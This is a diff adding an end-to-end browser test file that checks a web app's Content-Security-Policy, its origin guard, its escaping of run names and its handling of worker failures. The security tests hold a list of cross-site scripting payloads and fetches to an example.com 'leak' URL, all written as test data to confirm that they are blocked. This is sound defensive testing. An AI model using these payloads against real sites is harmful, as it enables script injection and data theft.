@@ -1,0 +1,212 @@
+// Reliability and security of the built page in headless Chromium: the Content-Security-Policy
+// is in force (foreign fetch, image and script blocked, inline script not run); the shared
+// origin guard (guard.mjs) catches a request that leaves the origin; run names carrying markup
+// or script show as text; a worker that throws or is killed fails only its own run while the
+// others finish a 10⁶-step run with bounded page memory.
+import assert from 'node:assert/strict';
+import { existsSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { dirname, join, resolve } from 'node:path';
+import { after, before, test } from 'node:test';
+import { fileURLToPath } from 'node:url';
+import { guardedContext, guardedPage, launchChromium, takeForeignRequests } from './guard.mjs';
+import { baseState, linkOf } from './share-link.mjs';
+import { serveStatic } from './static-server.mjs';
+
+const here = dirname(fileURLToPath(import.meta.url));
+const web = resolve(here, '../../web');
+const { chromium } = createRequire(join(web, 'package.json'))('playwright-core');
+const dist = process.env.E2E_DIST ?? join(web, 'dist');
+let server;
+let browser;
+
+before(async () => {
+  assert.ok(existsSync(join(dist, 'index.html')), `${dist} is missing: run "npm run build" in web/`);
+  server = await serveStatic(dist, '/app/');
+  // --expose-gc: memory is measured after a full collection, so garbage does not count.
+  browser = await launchChromium(chromium, ['--js-flags=--expose-gc']);
+});
+
+after(async () => {
+  await browser?.close();
+  await server?.close();
+});
+
+/** Opens the page (optionally at a hash), collecting page errors, dialogs and CSP reports. */
+async function open(hash = '', { cores } = {}) {
+  const page = await guardedPage(browser, server.url, { viewport: { width: 1280, height: 900 } });
+  const problems = [];
+  page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
+  page.on('dialog', (d) => {
+    problems.push(`dialog: ${d.message()}`);
+    d.dismiss().catch(() => undefined);
+  });
+  await page.addInitScript((cores) => {
+    window.__csp = [];
+    document.addEventListener('securitypolicyviolation', (e) =>
+      window.__csp.push(`${e.effectiveDirective} ${e.blockedURI}`),
+    );
+    // More workers than this machine's cores would give, so runs land on different workers.
+    if (cores) Object.defineProperty(navigator, 'hardwareConcurrency', { get: () => cores });
+  }, cores ?? 0);
+  await page.goto(`${server.url}${hash ? `#${hash}` : ''}`);
+  await page.getByRole('button', { name: /Start/ }).waitFor();
+  return { page, problems };
+}
+
+test('the CSP is in force: foreign fetch, image and script are blocked, inline script does not run', async () => {
+  const { page, problems } = await open();
+  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
+  assert.match(csp, /default-src 'self'/);
+  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);
+  assert.doesNotMatch(csp, /unsafe-inline|'unsafe-eval'|https?:|\*/);
+  const result = await page.evaluate(async () => {
+    let fetchBlocked = false;
+    try {
+      await fetch('https://example.com/leak?data=1');
+    } catch {
+      fetchBlocked = true;
+    }
+    const img = document.createElement('img');
+    img.src = 'https://example.com/pixel.png';
+    document.body.append(img);
+    const foreignScript = document.createElement('script');
+    foreignScript.src = 'https://example.com/tracker.js';
+    document.body.append(foreignScript);
+    const inline = document.createElement('script');
+    inline.textContent = 'window.__inlineRan = true';
+    document.body.append(inline);
+    await new Promise((r) => setTimeout(r, 800));
+    return { fetchBlocked, inlineRan: window.__inlineRan === true, violations: window.__csp };
+  }).catch((error) => ({ error: String(error) }));
+  assert.equal(result.error, undefined, result.error);
+  assert.equal(result.fetchBlocked, true, 'the foreign fetch was blocked');
+  assert.equal(result.inlineRan, false, 'injected inline script did not run');
+  const joined = result.violations.join(' | ');
+  for (const directive of ['connect-src', 'img-src', 'script-src-elem']) {
+    assert.match(joined, new RegExp(`${directive} https://example.com`), joined);
+  }
+  assert.match(joined, /script-src-elem inline/, joined);
+  // The CSP stopped them before the network: the origin guard saw nothing.
+  assert.deepEqual(takeForeignRequests(), []);
+  assert.deepEqual(problems, []);
+  await page.close();
+});
+
+test('the origin guard catches a request that leaves the origin', async () => {
+  // Without the CSP (bypassed here on purpose) a foreign fetch reaches the network layer,
+  // where the guard aborts and records it: the check that every e2e test relies on can fail.
+  const context = await guardedContext(browser, server.url, { bypassCSP: true });
+  const page = await context.newPage();
+  await page.goto(server.url);
+  const failed = await page.evaluate(() =>
+    fetch('https://example.com/leak').then(
+      () => false,
+      () => true,
+    ),
+  );
+  assert.equal(failed, true);
+  assert.deepEqual(takeForeignRequests(), ['https://example.com/leak']);
+  await context.close();
+});
+
+// Each payload is a run name (at most 60 characters). None may run, none may add an element,
+// and each must be shown literally.
+const XSS_PAYLOADS = [
+  '<script>window.__xss=1</script>',
+  '<img src=x onerror="window.__xss=2">',
+  '"><svg onload=window.__xss=3>',
+  "'><iframe srcdoc='<script>parent.__xss=4</script>'>",
+  '</textarea><b id=injected>bold</b>',
+  'javascript:window.__xss=5',
+  '{{constructor.constructor("window.__xss=6")()}}',
+  '${window.__xss=7}',
+  '&lt;b&gt;entity&lt;/b&gt; &amp;',
+  '<a href="javascript:alert(1)">link</a>',
+  '<style>body{display:none}</style>',
+  '\u202eRTL \u0000 nul',
+];
+
+test('run names carrying markup or script are shown as text, never run', async () => {
+  const colours = ['#1f77b4', '#d62728', '#2ca02c', '#ff7f0e', '#9467bd', '#8c564b'];
+  for (let from = 0; from < XSS_PAYLOADS.length; from += 6) {
+    const payloads = XSS_PAYLOADS.slice(from, from + 6);
+    const state = baseState({
+      steps: 20,
+      runs: payloads.map((name, i) => ({
+        id: `x${i}`,
+        name,
+        color: colours[i],
+        visible: true,
+        optimizer: { name: 'adam', params: { lr: 0.01 } },
+        schedule: { name: 'constant', params: {} },
+        transforms: [],
+      })),
+    });
+    const { page, problems } = await open(linkOf(state));
+    await page.getByRole('button', { name: /Start/ }).click();
+    await page.waitForFunction(
+      (n) => [...document.querySelectorAll('.comparison .status')].filter((c) => /done/.test(c.textContent ?? '')).length === n,
+      payloads.length,
+      { timeout: 60_000 },
+    );
+    const seen = await page.evaluate(() => ({
+      xss: window.__xss,
+      names: [...document.querySelectorAll('input.run-name')].map((i) => i.value),
+      table: document.querySelector('.comparison')?.textContent ?? '',
+      injected: document.querySelectorAll('#injected, iframe, svg[onload], img[onerror], [onerror], [onload], body style, a[href^="javascript"]').length,
+      scripts: [...document.scripts].map((s) => s.src || 'inline'),
+    }));
+    assert.equal(seen.xss, undefined, 'a payload ran');
+    assert.equal(seen.injected, 0, 'a payload added an element');
+    assert.ok(seen.scripts.every((s) => s.startsWith(server.url)), `scripts: ${seen.scripts}`);
+    assert.deepEqual(seen.names, payloads, 'names shown literally in the run cards');
+    for (const payload of payloads) {
+      const printable = payload.replace(/\u0000/g, '');
+      assert.ok(seen.table.includes(printable.slice(0, 20)) || seen.table.includes(payload.slice(0, 20)), `table shows ${payload}`);
+    }
+    assert.deepEqual(problems, []);
+    await page.close();
+  }
+});
+
+/** The page's live JS heap after a full garbage collection. */
+async function usedHeap(page) {
+  return page.evaluate(() => {
+    window.gc();
+    return performance.memory.usedJSHeapSize;
+  });
+}
+
+test('a worker that throws or is killed fails its own run; the others finish a 10^6-step run', async () => {
+  const state = baseState({ steps: 1_000_000 });
+  const { page, problems } = await open(linkOf(state), { cores: 5 });
+  const heapBefore = await usedHeap(page);
+  // Start, and fail two runs' workers at once (a 10⁶-step Rosenbrock run takes only seconds):
+  // four workers for "5 cores", so each run has a worker of its own.
+  const failed = await page.evaluate(() => {
+    const start = [...document.querySelectorAll('button')].find((b) => /Start/.test(b.textContent ?? ''));
+    start.click();
+    return [window.__descentTest.failWorker('r2', 'kill'), window.__descentTest.failWorker('r3', 'throw')];
+  });
+  assert.deepEqual(failed, [true, true]);
+  const deadline = Date.now() + 240_000;
+  let statuses = [];
+  for (;;) {
+    statuses = await page.$$eval('.comparison .status', (cells) => cells.map((c) => c.textContent ?? ''));
+    if (/done/.test(statuses[0] ?? '') || Date.now() > deadline) break;
+    await page.waitForTimeout(500);
+  }
+  assert.match(statuses[0], /done \(1000000\)/, statuses.join(' | '));
+  assert.match(statuses[1], /failed: the training worker was stopped/, statuses.join(' | '));
+  assert.match(statuses[2], /failed: .*the worker threw/, statuses.join(' | '));
+  // Page memory stays bounded after a run logged 10⁶ rows (the series thins itself): the
+  // unthinned columns alone would hold 10⁶ × 11 × 8 B = 88 MB (measured: +32 MB thinned,
+  // +110 MB with thinning switched off).
+  const heapAfter = await usedHeap(page);
+  const grown = Math.round((heapAfter - heapBefore) / 1e6);
+  console.log(`     JS heap after a full collection: ${Math.round(heapBefore / 1e6)} MB before, ${Math.round(heapAfter / 1e6)} MB after`);
+  assert.ok(grown < 60, `the page's heap grew by ${grown} MB`);
+  assert.deepEqual(problems, []);
+  await page.close();
+});
